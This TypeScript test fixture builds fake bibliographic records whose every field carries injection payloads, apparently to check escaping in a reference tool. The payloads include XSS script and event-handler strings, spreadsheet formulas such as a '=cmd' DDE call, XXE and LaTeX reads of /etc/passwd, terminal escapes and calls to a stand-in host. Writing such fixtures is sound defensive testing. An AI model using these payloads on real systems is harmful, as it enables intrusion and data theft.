// Records that try to break out of whatever they are written into: each payload is a paper of its
// own, at the start of every field. A script that runs, wherever, sets `globalThis.harmed`; all
// that is fetched would come from elsewhere.example.
import type { AwkwardRecord } from "./awkwardRecords.ts";

const HARM = "globalThis.harmed=1";
const ELSEWHERE = "http://elsewhere.example/x";

const SCRIPTS = [
  `<script>${HARM}</script>`,
  `<ScRiPt >${HARM}</sCrIpT>`,
  `<script src=${ELSEWHERE}.js></script>`,
  `</title><script>${HARM}</script>`,
  `</script><script>${HARM}</script>`,
  `</textarea><script>${HARM}</script>`,
  `]]><script>${HARM}</script>`,
  `--><script>${HARM}</script>`,
  `<!--<script>${HARM}`,
  `"><script>${HARM}</script>`,
  `'><script>${HARM}</script>`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg><script href="data:,${HARM}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HARM}>`,
  `<noscript><p title="</noscript><script>${HARM}</script>">`,
  `<template><script>${HARM}</script></template>`,
  `&lt;script&gt;${HARM}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${HARM}&amp;lt;/script&amp;gt;`,
  `+ADw-script+AD4-${HARM}+ADw-/script+AD4-`,
  `<scr<script>ipt>${HARM}</scr</script>ipt>`,
];
const HANDLERS = [
  `<img src=x onerror=${HARM}>`,
  `<img/src="x"/onerror="${HARM}"`,
  `<svg/onload=${HARM}>`,
  `<svg><animate onbegin=${HARM} attributeName=x dur=1s>`,
  `<body onload=${HARM}>`,
  `<details open ontoggle=${HARM}>`,
  `<input autofocus onfocus=${HARM}>`,
  `<video><source onerror=${HARM}>`,
  `<marquee onstart=${HARM}>`,
  `<iframe srcdoc="<script>parent.${HARM}</script>">`,
  `<object data="javascript:${HARM}">`,
  `<embed src="javascript:${HARM}">`,
  `<b onmouseover=${HARM}>bold</b>`,
  `" onmouseover="${HARM}" x="`,
  `' onfocus='${HARM}' autofocus '`,
  `<a href="javascript:${HARM}">link</a>`,
  `<a xlink:href="javascript:${HARM}">link</a>`,
  `<form action="javascript:${HARM}"><button>send</button></form>`,
];
const FETCHES = [
  `<img src=${ELSEWHERE}.png>`,
  `<link rel=stylesheet href=${ELSEWHERE}.css>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href=${ELSEWHERE}/>`,
  `<iframe src=${ELSEWHERE}></iframe>`,
  `</style><style>@import url(${ELSEWHERE}.css);*{background:url(${ELSEWHERE}.png)}</style>`,
  `<p style="background:url(${ELSEWHERE}.png);position:fixed;inset:0">`,
  `}*{background:url(${ELSEWHERE}.png)}`,
  `url(${ELSEWHERE}.png)`,
  `![picture](${ELSEWHERE}.png)`,
  `[link](javascript:${HARM})`,
  `[a]: javascript:${HARM}`,
  `<javascript:${HARM}>`,
  `<?xml-stylesheet href="${ELSEWHERE}.xsl"?>`,
];
const FORMULAS = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "\t=1+1", "\u00a0=1+1"],
  ...["=cmd|'/C calc'!A0", `=HYPERLINK("${ELSEWHERE}";"a")`, `=IMPORTXML("${ELSEWHERE}","//a")`, ";=1+1", '"=1+1'],
  ...['",=1+1', "\r\n=1+1", "|=1+1", "%0A=1+1"],
];
const CHARACTERS = [
  ...[0, 7, 8, 0x0b, 0x0c, 0x1a, 0x1b, 0x7f, 0x85, 0x9b, 0xad, 0x200b, 0x200f, 0x2028, 0x2029, 0x202e, 0x2066, 0x2069],
  ...[0xfeff, 0xfff9, 0xfffe, 0xffff, 0xd800, 0xdbff, 0xdc00, 0xe0041, 0x10ffff],
].map((code) => `be${String.fromCodePoint(code)}fore`);
const TERMINAL = [
  ...["\u001b[31mred", "\u001b]0;owned\u0007", `\u001b]8;;${ELSEWHERE}\u0007link\u001b]8;;\u0007`, "\u001b[2J\u001b[H"],
  ...["\u009b2J", "\u001b[2K\rerror: none", "\u001bP+q544e\u001b\\", "%s%n%x"],
];
const MARKUP = [
  `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`,
  ...[
    "&lol9;",
    "&b;",
    "&#0;",
    "&#xD800;",
    "&#x202e;",
    "&#x1b;",
    "<![CDATA[",
    "]]>",
    "<!--",
    "-->",
    "<?php x ?>",
    "<a:b>",
  ],
  ...["{{constructor.constructor('return 1')()}}", `$\{${HARM}}`, `<%= ${HARM} %>`, "#{1+1}", "[[1+1]]", "{% raw %}"],
  ...[
    "\\write18{ls}",
    "\\input{/etc/passwd}",
    "\\end{document}",
    "\\def\\x{\\x\\x}\\x",
    "}} @article{z,",
    "@string{m = {",
  ],
  ...[") Tj ET", ">> /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "endstream endobj", "%%EOF", "(\\"],
  ...["*Vertices 1", '1 "a" 0 0', "# heading", "```", "---", "| a | b |"],
];
const LINES = [
  ...["\nER  - \n\nTY  - JOUR", "\nPMID- 9\nTI  - x", "\nER\n\nEF\n", "\n%0 Book\n%T x", "\n\n@book{k}", "\n</record>"],
  ...["TY  - JOUR", "ER  - ", "PMID- 1", "%T x", '{"title":"x"}', '"\n"'],
];
const NAMES = [
  ...["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then"],
  ...["../../etc/passwd", "C:\\x\\..\\y", "CON", "a\u0000.txt", "paper:__proto__", "undefined", "null", "NaN", "1e999"],
];
const LENGTHS = [
  ...["a".repeat(20_000), "文".repeat(5000), "x-".repeat(4000), `e${"\u0301".repeat(2000)}`, "(".repeat(2000)],
  ...["<b>".repeat(600), "{".repeat(600), "&amp;".repeat(1000), "👩‍".repeat(500)],
];

export const PAYLOADS: readonly string[] = [
  ...[SCRIPTS, HANDLERS, FETCHES, FORMULAS, CHARACTERS, TERMINAL, MARKUP, LINES, NAMES, LENGTHS].flat(),
];

/** Links that must not be followed; the last are web links that try to break out of an attribute. */
export const HOSTILE_LINKS = [
  ...[`javascript:${HARM}`, ` JaVaScRiPt:${HARM}`, `java\tscript:${HARM}`, `data:text/html,<script>${HARM}</script>`],
  ...[`vbscript:${HARM}`, "file:///etc/passwd", "//elsewhere.example", `https://a.example/" onclick="${HARM}`],
  ...[`https://a.example/><script>${HARM}</script>`, "https://a.example/\u202egnp.exe"],
] as const;

/** What stands in each record's title whatever becomes of its payload. */
export const markOf = (at: number): string => `Study${at}`;

/** One record a payload, each with a title, DOI and abstract of its own. */
export const HOSTILE_RECORDS: readonly AwkwardRecord[] = PAYLOADS.map((payload, at) => ({
  at,
  title: at % 2 === 0 ? `${payload} ${markOf(at)} of lakes` : `${markOf(at)} of ${payload} lakes`,
  abstract: `${payload} We measured ice on ${markOf(at)} lakes with a sonar buoy. The sonar buoy said ${payload} again.`,
  authors: [
    [`${payload.slice(0, 80)} Berg`, "Ida"],
    ["Holm", `B. ${payload.slice(0, 80)}`],
  ],
  year: "2001",
  doi: `10.5555/hostile.${at}`,
  keywords: [payload.slice(0, 80), "sonar buoy"],
}));

/** As JSON with all that a record can hold, names of its own fields too. */
export const hostileJson = (): string =>
  JSON.stringify(
    HOSTILE_RECORDS.map(({ at, title, abstract, authors, doi, keywords }) => ({
      ...{ title, abstract, authors: authors.map((name) => name.join(" ")), year: 2001, doi, keywords },
      ...{ venue: PAYLOADS[at], type: PAYLOADS[at], url: HOSTILE_LINKS[at % HOSTILE_LINKS.length] },
      [`${PAYLOADS[at]?.slice(0, 80)} note`]: PAYLOADS[at],
    })),
  );
